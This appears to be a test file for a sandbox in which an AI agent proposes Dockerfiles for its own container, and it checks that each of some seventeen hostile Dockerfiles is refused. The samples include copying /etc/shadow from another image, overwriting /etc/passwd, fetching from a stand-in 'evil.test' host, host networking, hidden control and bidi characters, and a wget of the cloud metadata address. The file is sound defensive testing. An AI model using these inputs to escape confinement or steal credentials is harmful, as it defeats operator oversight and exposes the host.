import { describe, expect, test } from "bun:test"
import { mkdirSync, readdirSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { imageOrderFor } from "../../src/bottle/image-order.ts"
import type { Plan } from "../../src/bottle/plan-types.ts"
import type { Proposal } from "../../src/proposals/types.ts"
import { proposalLines } from "../../src/ui/proposal-lines.ts"
import { approve, type Bench, makeBench, propose, view } from "../support/proposals/desk.ts"
import { tempDir } from "../support/temp.ts"

/** What an agent could propose as its image (SECURITY 24), through its tool and as a file that lies in the queue already. */

const home = tempDir("capability-attacks")
let made = 0
const build = { name: "dev", origin: "./Dockerfile", dockerfile: "FROM base:1\n", args: {} }
const bench = () => makeBench(join(home, `h${made++}`), undefined, { plan: { docker: { build } } as Partial<Plan> })

const attacks: [string, string, string][] = [
  ["starts from another local image", "FROM other:1\n", "line 1: FROM names other:1"],
  ["starts from an image by its id", `FROM sha256:${"0".repeat(64)}\n`, "which is not a declared base"],
  ["copies from a local image", "FROM base:1\nCOPY --from=other:1 /etc/shadow /x\n", "line 2: COPY names other:1"],
  ["names its image in a variable", "ARG X=other:1\nFROM $X\n", "other:1, which is not a declared base"],
  ["hides lines in a heredoc", "FROM base:1\nRUN <<EOF\nFROM other:1\nEOF\n", "line 2: here-documents"],
  ["hides a file in a heredoc", "FROM base:1\nCOPY <<EOF /etc/passwd\nroot::0:0\nEOF\n", "line 2: here-documents"],
  ["has another program read it", "# syntax=evil/frontend:1\nFROM base:1\n", "line 1: parser directives"],
  ["changes what ends a line", "# escape=`\nFROM base:1\n", "line 1: parser directives"],
  ["has the engine fetch a URL", "FROM base:1\nADD https://evil.test/x /x\n", "line 2: ADD of https://evil.test/x"],
  ["has the engine clone", "FROM base:1\nADD git@evil.test:x/y.git /x\n", "line 2: ADD of git@evil.test"],
  ["mounts another image", "FROM base:1\nRUN --mount=type=bind,from=other:1 cat /x\n", "line 2: flags of RUN"],
  ["takes the host's network", "FROM base:1\nRUN --network=host id\n", "line 2: flags of RUN"],
  ["acts in a later build", "FROM base:1\nONBUILD RUN id\n", "line 2: ONBUILD"],
  ["takes files of a context", "FROM base:1\nCOPY . /x\n", "line 2: COPY takes a file"],
  ["hides a line from a reader", "FROM base:1\nRUN echo ok\rFROM other:1\n", "line 2: it has a carriage return"],
  ["writes to the operator's terminal", "FROM base:1\nRUN echo \u001b]52;c;eA==\u0007\n", "line 2: it has a control"],
  ["turns its text around", "FROM base:1\nRUN echo \u202etxet\n", "line 2: it has an invisible character"],
]

function plant({ paths, plan }: Bench, text: string): string {
  const id = "p0123456789"
  const proposal: Proposal = {
    ...{ schemaVersion: 1, id, bottle_slug: plan.slug, tool: "capability-block", proposed_file: text },
    ...{ justification: "", arrival_timestamp: "2040-01-01T00:00:00.000Z", current_file_hash: "" },
  }
  mkdirSync(join(paths.queue, plan.slug), { recursive: true })
  writeFileSync(join(paths.queue, plan.slug, `${id}.proposal.json`), JSON.stringify(proposal))
  return id
}

describe("a proposed Dockerfile that", () => {
  test.each(attacks)("%s is refused, and says why where it is shown", async (_what, text, why) => {
    const b = await bench()
    const untouched = readdirSync(b.paths.state(b.plan.slug))
    await expect(propose(b.desk, text, "capability-block")).rejects.toThrow(JSON.stringify(why).slice(1, -1))
    const id = plant(b, text)
    const seen = await view(b.desk, id)
    expect(seen.cannot).toContain(why)
    const shown = proposalLines(seen).join("\n")
    expect(shown.replace(/\s+/g, " ")).toContain("cannot be approved as it is:")
    expect(shown).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e]/)
    for (const how of [{}, { text: `${text}# mine\n` }, { network: true }])
      expect(await approve(b.desk, id, how)).toMatchObject({ kind: "refused", why: expect.stringContaining(why) })
    expect(readdirSync(b.paths.state(b.plan.slug))).toEqual(untouched)
    expect(b.supervisor.told).toEqual([])
  })

  test("asks for a network in its own words gets none, and every line that runs is in the blast radius", async () => {
    const b = await bench()
    const text = "FROM base:1\n# network: true --network\nLABEL network=true\nRUN wget http://169.254.169.254/\n"
    const request = { op: "propose", tool: "capability-block", proposed_file: text, justification: "", network: true }
    const asked = await b.desk.onCall(request as never)
    const id = asked.kind === "pending" ? asked.id : ""
    expect((await view(b.desk, id)).findings).toMatchObject([{ kind: "run", text: expect.stringContaining("wget") }])
    await approve(b.desk, id)
    const wish = { template: "dev", own: build.dockerfile, bottle: { names: [], docker: {}, provider: {} } } as never
    const order = await imageOrderFor(wish, b.paths, b.plan.slug)
    expect(order?.confined).toEqual({ bases: ["base:1"], network: false })
  })
})
